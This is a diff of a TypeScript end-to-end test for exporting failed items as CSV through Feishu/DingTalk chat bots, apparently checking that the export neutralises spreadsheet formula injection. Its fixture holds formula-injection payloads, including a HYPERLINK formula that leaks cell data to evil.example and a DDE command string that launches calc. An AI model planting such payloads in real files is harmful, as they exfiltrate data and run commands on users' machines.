@@ -12,7 +12,7 @@ const BUSY = 'The file of the failed items is already being prepared';
 const hex = (n: number) => n.toString(16).padStart(32, '0');
 /** Upstream text that a spreadsheet would run, and text that breaks naive CSV. */
 const HOSTILE = [
-  { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', msg: '+cmd|\' /C calc\'!A0' },
+  { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', msg: "+cmd|' /C calc'!A0" },
   { name: '@SUM(1+1)*cmd', msg: '-2+3' },
   { name: '\t=1+1\nline two\rthree', msg: 'line one\r\nline "two", with a comma' },
   { name: '张三，李四', msg: '＝1+1', email: 'zhang.san@example.com', mobile: '13912345678' },
@@ -71,14 +71,18 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     f.addTask({ id: hex(2), kind: 'contact', total: 10_000, outcome: 'partial', queuedSteps: 0, runningSteps: 400, advance: 1000 });
     const live = await cardOf(f, 'oc_y', hex(2), (m) => JSON.stringify(m.card).includes('"action":"export"'));
     await f.gateway.push(f.click(live.message_id, 'export'));
-    const notice = await until('the notice', () => f.im.inChat('oc_y').find((m) => m.reply_to === live.message_id && JSON.stringify(m.card).includes('lists no failed rows yet')));
+    const notice = await until('the notice', () =>
+      f.im.inChat('oc_y').find((m) => m.reply_to === live.message_id && JSON.stringify(m.card).includes('lists no failed rows yet')),
+    );
     expect(JSON.stringify(notice.card)).toContain(`Task ${hex(2)} lists no failed rows yet`);
 
     f.addTask({ id: hex(3), kind: 'contact', total: 10, outcome: 'partial', queuedSteps: 0, runningSteps: 1, advance: 'poll' });
     const done = await cardOf(f, 'oc_z', hex(3), (m) => JSON.stringify(m.card).includes('Partly failed'));
     f.denyScope('/open-apis/im/v1/files');
     await f.gateway.push(f.click(done.message_id, 'export'));
-    const refused = await until('the refusal', () => f.im.inChat('oc_z').find((m) => m.reply_to === done.message_id && JSON.stringify(m.card).includes('Could not export')));
+    const refused = await until('the refusal', () =>
+      f.im.inChat('oc_z').find((m) => m.reply_to === done.message_id && JSON.stringify(m.card).includes('Could not export')),
+    );
     expect(JSON.stringify(refused.card)).toContain('PERMISSION_DENIED');
     expect(f.im.inChat('oc_z').some((m) => m.file)).toBe(false);
     // The failed export let go of the card at once (well before its hold would lapse): a new press makes the file.
@@ -95,12 +99,22 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     await expect(api.uploadFile('big.csv', big)).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
     await expect(api.uploadFile('empty.csv', new Uint8Array(0))).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
     expect(f.calls('/open-apis/im/v1/files')).toHaveLength(0);
-    const token = (await (await fetch(`${f.baseUrl}/open-apis/auth/v3/tenant_access_token/internal`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ app_id: f.appId, app_secret: f.appSecret }) })).json()) as { tenant_access_token: string };
+    const token = (await (
+      await fetch(`${f.baseUrl}/open-apis/auth/v3/tenant_access_token/internal`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ app_id: f.appId, app_secret: f.appSecret }),
+      })
+    ).json()) as { tenant_access_token: string };
     const form = new FormData();
     form.append('file_type', 'stream');
     form.append('file_name', 'big.csv');
     form.append('file', new Blob([big]), 'big.csv');
-    const r = await fetch(`${f.baseUrl}/open-apis/im/v1/files`, { method: 'POST', headers: { authorization: `Bearer ${token.tenant_access_token}` }, body: form });
+    const r = await fetch(`${f.baseUrl}/open-apis/im/v1/files`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${token.tenant_access_token}` },
+      body: form,
+    });
     expect(((await r.json()) as { code: number }).code).toBe(234006);
   });
 
